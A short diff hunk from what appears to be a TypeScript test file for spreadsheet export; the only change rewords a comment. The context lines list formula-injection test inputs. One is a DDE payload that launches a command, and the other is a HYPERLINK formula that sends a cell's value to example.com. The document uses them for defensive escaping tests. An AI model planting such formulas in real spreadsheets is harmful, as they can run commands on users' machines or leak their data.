@@ -6,7 +6,7 @@ import { sharedTestServer } from "../http/testing/server.ts";
 import { nameKey } from "../imports/vocabulary.ts";
 import { readSheet } from "./testing/read-sheet.ts";
 
-/** Texts that spreadsheets could execute, or that careless escaping would change. */
+/** Texts that spreadsheets could execute, or that incorrect escaping would change. */
 const hostile = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://example.com?"&A1,"click")',
